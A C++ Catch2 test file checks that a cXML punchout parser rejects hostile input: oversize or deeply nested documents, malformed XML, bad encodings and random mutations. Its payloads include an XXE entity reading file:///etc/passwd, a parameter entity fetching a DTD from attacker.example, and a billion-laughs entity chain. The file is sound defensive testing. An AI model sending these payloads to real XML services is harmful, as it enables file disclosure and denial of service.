// The reader is safe with hostile input: no entity expansion, no fetching, limits with
// locations, and no exception for any input.
#include "cxml/parse.hpp"
#include "tests/cxml/support.hpp"

#include <random>
#include <string>

#include <catch2/catch.hpp>

using namespace punchout::cxml;

namespace {

const std::string minimal_body = R"(<cXML payloadID="1@x" timestamp="2026-11-23T10:15:00+01:00">
<Response><Status code="200" text="OK"/></Response></cXML>)";

ParseResult parse_with_doctype(
    const std::string& doctype,
    const std::string& root_content = "<Status code=\"200\" text=\"OK\"/>") {
    return parse("<?xml version=\"1.0\"?>\n" + doctype +
                 "\n<cXML payloadID=\"1@x\" timestamp=\"2026-11-23T10:15:00+01:00\"><Response>" +
                 root_content + "</Response></cXML>");
}

}  // namespace

TEST_CASE("XXE: an external entity declaration is refused with 406", "[reader][safety]") {
    const auto r =
        parse_with_doctype("<!DOCTYPE cXML [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                           "<Status code=\"200\" text=\"OK\">&xxe;</Status>");
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().kind == ParseErrorKind::unsafe_doctype);
    CHECK(r.error().status == 406);
    CHECK(r.error().message.find("declares an entity") != std::string::npos);
    CHECK(r.error().where.line == 2);
    CHECK(r.error().where.column == 17);
}

TEST_CASE("billion laughs: nested entity declarations are refused", "[reader][safety]") {
    const auto r = parse_with_doctype(R"(<!DOCTYPE cXML [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>)",
                                      "<Status code=\"200\" text=\"OK\">&lol2;</Status>");
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().kind == ParseErrorKind::unsafe_doctype);
    CHECK(r.error().status == 406);
    CHECK(r.error().where.line == 3);
}

TEST_CASE("parameter entities in the DOCTYPE are refused", "[reader][safety]") {
    const auto decl = parse_with_doctype(
        "<!DOCTYPE cXML [<!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\"> %remote;]>");
    REQUIRE_FALSE(decl.ok());
    CHECK(decl.error().kind == ParseErrorKind::unsafe_doctype);
    CHECK(decl.error().message.find("parameter entity") != std::string::npos);

    const auto reference = parse_with_doctype("<!DOCTYPE cXML [ %remote; ]>");
    REQUIRE_FALSE(reference.ok());
    CHECK(reference.error().kind == ParseErrorKind::unsafe_doctype);
    CHECK(reference.error().message.find("parameter entity reference") != std::string::npos);
}

TEST_CASE("a plain SYSTEM DOCTYPE is fine and nothing is fetched", "[reader][safety]") {
    // An unreachable host: a reader that fetched would hang or fail here.
    const auto r = parse_with_doctype(
        "<!DOCTYPE cXML SYSTEM \"http://203.0.113.1/schemas/cXML/1.2.071/cXML.dtd\">");
    REQUIRE(r.ok());
    CHECK(std::get<Response>(r.value().body).status().code == 200);
}

TEST_CASE("an internal subset without entities is ignored with a deviation", "[reader][safety]") {
    const auto r = parse_with_doctype("<!DOCTYPE cXML [<!ATTLIST Status extra CDATA \"x\">]>");
    REQUIRE(r.ok());
    REQUIRE_FALSE(r.deviations().empty());
    CHECK(r.deviations()[0].message == "DOCTYPE internal subset ignored");
}

TEST_CASE("undeclared entity references are refused; predefined ones expand", "[reader][safety]") {
    const auto bad = parse_with_doctype("", "<Status code=\"200\" text=\"OK\">a &nbsp; b</Status>");
    REQUIRE_FALSE(bad.ok());
    CHECK(bad.error().status == 406);
    CHECK(bad.error().message.find("&nbsp;") != std::string::npos);

    const auto ok = parse_with_doctype(
        "",
        "<Status code=\"200\" text=\"A&amp;B\">&lt;&gt;&quot;&apos;&#233;&#x41;</Status>"
        "<!-- &comment; --><![CDATA[]]>");
    REQUIRE(ok.ok());
    CHECK(std::get<Response>(ok.value().body).status().text == "A&B");
    CHECK(std::get<Response>(ok.value().body).status().message ==
          "<>\"'\xC3\xA9"
          "A");

    // Inside CDATA a '&' is just text.
    const auto cdata =
        parse_with_doctype("", "<Status code=\"200\" text=\"OK\"><![CDATA[AT&T &x;]]></Status>");
    REQUIRE(cdata.ok());
    CHECK(std::get<Response>(cdata.value().body).status().message == "AT&T &x;");
}

TEST_CASE("documents over the size limit are refused with 413", "[reader][safety]") {
    ParseOptions options;
    options.max_bytes = 64;
    const auto r = parse(minimal_body, options);
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().kind == ParseErrorKind::too_large);
    CHECK(r.error().status == 413);
    // The location is where the limit was crossed: byte 64, early on line 2.
    CHECK(r.error().where.offset == 64);
    CHECK(r.error().where.line == 2);
    CHECK(r.error().message.find("limit of 64 bytes") != std::string::npos);
    CHECK(parse(minimal_body).ok());
}

TEST_CASE("documents nested over the depth limit are refused with the location",
          "[reader][safety]") {
    std::string deep = "<cXML payloadID=\"1@x\" timestamp=\"2026-11-23T10:15:00Z\">\n<Response>\n";
    for (int i = 0; i < 100; ++i)
        deep += "<a>";
    deep += "x";
    for (int i = 0; i < 100; ++i)
        deep += "</a>";
    deep += "\n</Response></cXML>";
    ParseOptions options;
    options.max_depth = 20;
    const auto r = parse(deep, options);
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().kind == ParseErrorKind::too_deep);
    CHECK(r.error().status == 413);
    CHECK(r.error().where.line == 3);
    CHECK(r.error().where.path.rfind("cXML/Response/a/a/", 0) == 0);
    CHECK(r.error().message.find("limit of 20") != std::string::npos);

    // A million levels: refused without recursion trouble.
    std::string bomb = "<cXML payloadID=\"1@x\"><Response>";
    for (int i = 0; i < 1000000; ++i)
        bomb += "<a>";
    const auto b = parse(bomb);
    REQUIRE_FALSE(b.ok());
    CHECK(b.error().status == 406);  // unclosed, so not well-formed first
    for (int i = 0; i < 1000000; ++i)
        bomb += "</a>";
    bomb += "</Response></cXML>";
    const auto closed = parse(bomb, ParseOptions{});
    REQUIRE_FALSE(closed.ok());
    CHECK(closed.error().kind == ParseErrorKind::too_deep);
}

TEST_CASE("deep nesting is found wherever it hides", "[reader][safety]") {
    // The depth check runs as the document is read: subtrees the reader skips or flattens
    // (unknown elements, unmodelled DTD elements, leaf text, Extrinsic, a second payload)
    // are walked too.
    auto nest = [](int levels) {
        std::string s;
        for (int i = 0; i < levels; ++i)
            s += "<a>";
        for (int i = 0; i < levels; ++i)
            s += "</a>";
        return s;
    };
    const std::string bomb = nest(40);
    const std::string head = R"(<cXML payloadID="1@x" timestamp="2026-11-23T10:15:00Z"><Header>
      <From><Credential domain="D"><Identity>a</Identity></Credential></From>
      <To><Credential domain="D"><Identity>b</Identity></Credential></To>
      <Sender><Credential domain="D"><Identity>a</Identity></Credential><UserAgent>u</UserAgent></Sender>
      </Header><Request><PunchOutSetupRequest operation="create"><BuyerCookie>c</BuyerCookie>)";
    const std::string tail = "</PunchOutSetupRequest></Request></cXML>";
    const std::string places[] = {
        "<Unknown>" + bomb + "</Unknown>",
        "<Extrinsic name=\"x\">" + bomb + "</Extrinsic>",
        "<ShipTo><Address><Name xml:lang=\"en\">n</Name><PostalAddress><Street>s</Street>"
        "<City>" +
            bomb +
            "</City><Country isoCountryCode=\"DE\">D</Country></PostalAddress>"
            "</Address><TransportInformation>" +
            bomb + "</TransportInformation></ShipTo>",
        "<ItemOut quantity=\"1\"><ItemID><SupplierPartID>" + bomb +
            "</SupplierPartID></ItemID><Path>" + bomb + "</Path></ItemOut>",
        "<Contact><Name xml:lang=\"en\">" + bomb + "</Name></Contact>",
    };
    ParseOptions options;
    options.max_depth = 30;
    for (const auto& place : places) {
        INFO(place.substr(0, 60));
        const auto r = parse(head + place + tail, options);
        REQUIRE_FALSE(r.ok());
        CHECK(r.error().kind == ParseErrorKind::too_deep);
        CHECK(r.error().where.path.find("/a/a/a") != std::string::npos);
    }
    // A second request element is checked as well.
    const auto second = parse(
        head + tail.substr(0, tail.find("</Request>")) + "<Foo>" + bomb + "</Foo></Request></cXML>",
        options);
    REQUIRE_FALSE(second.ok());
    CHECK(second.error().kind == ParseErrorKind::too_deep);
    // The same documents within the limit are read.
    options.max_depth = 64;
    for (const auto& place : places)
        CHECK(parse(head + place + tail, options).ok());
}

TEST_CASE("not well-formed XML is refused with 406, line and path", "[reader][safety]") {
    const auto r = parse(punchout::cxml::test::read_file(
        punchout::cxml::test::corpus("business-cxml/unintelligible-response.xml")));
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().kind == ParseErrorKind::not_well_formed);
    CHECK(r.error().status == 406);
    CHECK(r.error().where.line == 5);
    CHECK(r.error().where.path == "cXML/Response/Status");

    for (const char* bad : {"", "   ", "not xml", "<cXML", "<cXML></cxml>", "<a/><b/>",
                            "<cXML payloadID='1'><Response></cXML>"}) {
        INFO(bad);
        const auto e = parse(bad);
        REQUIRE_FALSE(e.ok());
        CHECK(e.error().status == 406);
    }
}

TEST_CASE("encodings other than UTF-8 and broken UTF-8 are refused", "[reader][safety]") {
    const auto utf16 = parse(std::string("\xFF\xFE<\0c\0", 6));
    REQUIRE_FALSE(utf16.ok());
    CHECK(utf16.error().message.find("UTF-16") != std::string::npos);

    const auto broken = parse(
        "<cXML payloadID=\"1\">\n<Response><Status code=\"200\" text=\"\xC3("
        "\"/></Response></cXML>");
    REQUIRE_FALSE(broken.ok());
    CHECK(broken.error().status == 406);
    CHECK(broken.error().where.line == 2);

    const auto ebcdic = parse("<?xml version=\"1.0\" encoding=\"EBCDIC-US\"?><cXML/>");
    REQUIRE_FALSE(ebcdic.ok());
    CHECK(ebcdic.error().message.find("unsupported encoding") != std::string::npos);

    const auto latin1 = parse(
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"
        "<cXML payloadID=\"1@x\" timestamp=\"2026-11-23T10:15:00Z\"><Response>"
        "<Status code=\"200\" text=\"OK\">M\xFCller</Status></Response></cXML>");
    REQUIRE(latin1.ok());
    CHECK(std::get<Response>(latin1.value().body).status().message == "M\xC3\xBCller");
}

TEST_CASE("no input makes parse throw", "[reader][safety]") {
    // Mutations of real documents: truncations, byte flips and insertions.
    const std::string base = punchout::cxml::test::read_file(
        punchout::cxml::test::corpus("business-cxml/punchoutorder4-message.xml"));
    std::mt19937 rng(20261123);
    std::uniform_int_distribution<std::size_t> pos(0, base.size() - 1);
    std::uniform_int_distribution<int> byte(0, 255);
    const char* inserts[] = {"<",
                             ">",
                             "&",
                             "&x;",
                             "\"",
                             "<!--",
                             "]]>",
                             "<Foo>",
                             "</Bar>",
                             "\xC3",
                             "<!DOCTYPE x [<!ENTITY a 'b'>]>",
                             "quantity=\"x\""};
    int accepted = 0;
    for (int i = 0; i < 3000; ++i) {
        std::string doc = base;
        switch (i % 3) {
            case 0:
                doc.resize(pos(rng));
                break;
            case 1:
                doc[pos(rng)] = static_cast<char>(byte(rng));
                break;
            default:
                doc.insert(pos(rng), inserts[static_cast<std::size_t>(i) % 12]);
                break;
        }
        ParseResult r = parse(doc);  // noexcept: a throw would terminate the test
        if (r.ok())
            ++accepted;
        else
            CHECK(r.error().status >= 400);
    }
    CHECK(accepted > 0);
}
